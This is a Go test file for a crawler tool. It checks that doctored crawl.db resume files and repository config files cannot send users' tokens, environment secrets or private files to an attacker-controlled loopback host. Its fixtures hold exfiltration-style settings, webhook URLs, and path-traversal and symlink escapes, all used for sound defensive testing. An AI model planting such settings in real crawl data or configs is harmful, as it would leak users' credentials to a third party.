package main

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/crawlaudit/crawlaudit/internal/store"
	"github.com/crawlaudit/crawlaudit/internal/testsite"
)

// attacker is a loopback server that records every request it gets: the
// credential headers and webhook POSTs a doctored file tries to draw.
type attacker struct {
	mu       sync.Mutex
	requests []string            // "METHOD /path"
	headers  map[string][]string // credential-bearing headers seen, by name
	srv      *httptest.Server
}

func startAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{headers: map[string][]string{}}
	a.srv = testsite.Start(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.requests = append(a.requests, r.Method+" "+r.URL.Path)
		for name, v := range r.Header {
			switch name {
			case "User-Agent", "Accept", "Accept-Encoding", "Accept-Language", "Content-Type", "Content-Length", "Connection":
			default:
				a.headers[name] = append(a.headers[name], v...)
			}
		}
		a.mu.Unlock()
		switch r.URL.Path {
		case "/robots.txt":
			w.Header().Set("Content-Type", "text/plain")
			w.Write([]byte("User-agent: *\nAllow: /\n"))
		case "/":
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte(`<!doctype html><title>Lure</title><a href="/b">b</a>`))
		default:
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte(`<!doctype html><title>B</title>`))
		}
	}), nil)
	t.Cleanup(a.srv.Close)
	return a
}

func (a *attacker) seen() ([]string, map[string][]string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	h := map[string][]string{}
	for k, v := range a.headers {
		h[k] = append([]string(nil), v...)
	}
	return append([]string(nil), a.requests...), h
}

// doctor writes a crawl.db in dir that looks like an interrupted crawl of
// start, with settings someone else added.
func doctor(t *testing.T, dir, start string, settings map[string]string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	st, err := store.CreateSQLite(filepath.Join(dir, "crawl.db"))
	if err != nil {
		t.Fatal(err)
	}
	base := map[string]string{"concurrency": "2", "delay": "0s", "timeout": "10s", "max_urls": "0"}
	for k, v := range settings {
		base[k] = v
	}
	if err := st.SetMeta(store.Meta{ToolVersion: "dev", StartURL: start, StartedAt: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC), Partial: true, Settings: base}); err != nil {
		t.Fatal(err)
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestDoctoredCrawlDBSendsNothingToItsHost reproduces the review's resume
// exfiltration: a crawl.db whose settings name a credential variable, a
// private file as headers, the host as an origin for credentials, a
// webhook and a sitemap, all on a host of its choosing. The resume is
// refused before any request; the host gets nothing.
func TestDoctoredCrawlDBSendsNothingToItsHost(t *testing.T) {
	evil := startAttacker(t)
	private := filepath.Join(t.TempDir(), "private")
	if err := os.WriteFile(private, []byte("X-Private: line-of-a-private-file\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("SOME_SECRET", "secret-from-the-environment")
	t.Setenv("CRAWLAUDIT_BEARER_TOKEN", "the-users-own-token")
	for _, key := range []string{"bearer_token_env", "basic_auth_env", "auth_origin", "auth_origins_extra", "header_file", "cookie_file", "notify_url", "sitemap"} {
		t.Run(key, func(t *testing.T) {
			values := map[string]string{
				"bearer_token_env": "SOME_SECRET", "basic_auth_env": "SOME_SECRET", "auth_origin": evil.srv.URL, "auth_origins_extra": evil.srv.URL,
				"header_file": private, "cookie_file": private, "notify_url": evil.srv.URL + "/hook", "sitemap": evil.srv.URL + "/sitemap.xml",
			}
			dir := filepath.Join(t.TempDir(), "out")
			doctor(t, dir, evil.srv.URL+"/", map[string]string{key: values[key]})
			var stdout, stderr bytes.Buffer
			code := run([]string{"crawl", "--resume", dir, "-q"}, &stdout, &stderr)
			if code != 2 || !strings.Contains(stderr.String(), key) || !strings.Contains(stderr.String(), "not resumed") {
				t.Fatalf("exit %d, stderr %q: want exit 2 naming %s", code, stderr.String(), key)
			}
			if reqs, _ := evil.seen(); len(reqs) != 0 {
				t.Fatalf("the doctored database's host got %d requests: %v", len(reqs), reqs)
			}
		})
	}
}

// TestResumeSendsOnlyCredentialsNamedAgain: a crawl.db of settings this
// tool writes but a start URL on another host, resumed by a user with
// CRAWLAUDIT_BEARER_TOKEN exported. The start URL and scope are printed
// before the first request, the stored "credentials" line makes the run
// say they must be given again, and the host gets no credential; named
// again on the command line, the token is sent.
func TestResumeSendsOnlyCredentialsNamedAgain(t *testing.T) {
	evil := startAttacker(t)
	t.Setenv("CRAWLAUDIT_BEARER_TOKEN", "the-users-own-token")
	dir := filepath.Join(t.TempDir(), "out")
	doctor(t, dir, evil.srv.URL+"/", map[string]string{"credentials": "Bearer (CRAWLAUDIT_BEARER_TOKEN)", "credentials_scheme": "Bearer", "max_depth": "3"})

	var stdout, stderr bytes.Buffer
	if code := run([]string{"crawl", "--resume", dir, "-q", "--fail-on", "never"}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	lines := strings.Split(strings.TrimRight(stderr.String(), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("stderr: want the scope line and one credentials line, got %q", stderr.String())
	}
	if want := "Resuming the crawl in " + dir + ": same-site URLs of " + evil.srv.URL + "/; at most 3 clicks deep"; lines[0] != want {
		t.Errorf("first line %q, want %q", lines[0], want)
	}
	if !strings.Contains(lines[1], "warning: the interrupted crawl used credentials (Bearer (CRAWLAUDIT_BEARER_TOKEN))") || !strings.Contains(lines[1], "give them again") {
		t.Errorf("credentials line %q", lines[1])
	}
	reqs, headers := evil.seen()
	if len(reqs) == 0 {
		t.Fatal("the resumed crawl made no request")
	}
	if len(headers) != 0 {
		t.Fatalf("credential-like headers reached the crawl.db's host: %v", headers)
	}

	// Named again: the user's word, the user's token.
	stderr.Reset()
	if code := run([]string{"crawl", "--resume", dir, "-q", "--fail-on", "never", "--bearer-token-env", "CRAWLAUDIT_BEARER_TOKEN"}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	if strings.Contains(stderr.String(), "warning") {
		t.Errorf("credentials given again, still warned: %q", stderr.String())
	}
	if _, headers := evil.seen(); len(headers["Authorization"]) == 0 || headers["Authorization"][0] != "Bearer the-users-own-token" {
		t.Fatalf("token named again on the command line was not sent: %v", headers)
	}
}

// TestConfigFileCredentialSourcesNeedTheUsersWord: a crawlaudit.yaml
// (as a cloned repository brings) may name CRAWLAUDIT_* variables and
// files in its own folder tree; any other variable or file is refused
// with its line before any request, unless given on the command line.
func TestConfigFileCredentialSourcesNeedTheUsersWord(t *testing.T) {
	evil := startAttacker(t)
	t.Setenv("SOME_SECRET", "secret-from-the-environment")
	t.Setenv("CRAWLAUDIT_SITE_TOKEN", "token-for-this-site")
	repo := t.TempDir()
	outside := filepath.Join(t.TempDir(), "private")
	if err := os.WriteFile(outside, []byte("X-Private: outside\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(repo, "auth"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(repo, "auth", "headers.txt"), []byte("X-Api-Key: inside\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(repo, "auth", "link.txt")); err != nil {
		t.Fatal(err)
	}
	config := func(t *testing.T, line string) string {
		path := filepath.Join(repo, "crawlaudit.yaml")
		body := "defaults:\n  url: " + evil.srv.URL + "/\n  out: " + filepath.Join(t.TempDir(), "out") + "\n  fail_on: never\n  " + line + "\n"
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	refused := []struct{ name, line, want string }{
		{"any variable", "bearer_token_env: SOME_SECRET", "crawlaudit.yaml:5: defaults.bearer_token_env: SOME_SECRET is not a CRAWLAUDIT_* variable"},
		{"any variable for basic", "basic_auth_env: SOME_SECRET", "defaults.basic_auth_env: SOME_SECRET is not a CRAWLAUDIT_* variable"},
		{"a file outside", "header_file: " + outside, "defaults.header_file: " + outside + " is outside"},
		{"a path that climbs out", "header_file: ../" + filepath.Base(filepath.Dir(outside)) + "/private", "is outside"},
		{"a link that leads out", "header_file: auth/link.txt", "defaults.header_file: auth/link.txt is outside"},
		{"a cookie file outside", "cookie_file: " + outside, "defaults.cookie_file: " + outside + " is outside"},
	}
	for _, c := range refused {
		t.Run(c.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			code := run([]string{"crawl", "--config", config(t, c.line), "-q"}, &stdout, &stderr)
			if code != 2 || !strings.Contains(stderr.String(), c.want) || strings.Count(stderr.String(), "\n") != 1 {
				t.Fatalf("exit %d, stderr %q: want one line with %q", code, stderr.String(), c.want)
			}
			if reqs, _ := evil.seen(); len(reqs) != 0 {
				t.Fatalf("requests before the refusal: %v", reqs)
			}
		})
	}
	accepted := []struct {
		name, line string
		flags      []string
		header     string // header the site must get
		value      string
	}{
		{"a CRAWLAUDIT_ variable", "bearer_token_env: CRAWLAUDIT_SITE_TOKEN", nil, "Authorization", "Bearer token-for-this-site"},
		{"a file in the folder tree, relative to it", "header_file: auth/headers.txt", nil, "X-Api-Key", "inside"},
		{"any variable named on the command line", "bearer_token_env: SOME_SECRET", []string{"--bearer-token-env", "SOME_SECRET"}, "Authorization", "Bearer secret-from-the-environment"},
		{"a file outside named on the command line", "header_file: " + outside, []string{"--header-file", outside}, "X-Private", "outside"},
	}
	for _, c := range accepted {
		t.Run(c.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			args := append([]string{"crawl", "--config", config(t, c.line), "-q"}, c.flags...)
			if code := run(args, &stdout, &stderr); code != 0 {
				t.Fatalf("exit %d: %s", code, stderr.String())
			}
			if _, h := evil.seen(); len(h[c.header]) == 0 || h[c.header][len(h[c.header])-1] != c.value {
				t.Fatalf("%s not sent as %q: %v", c.header, c.value, h)
			}
		})
	}
}
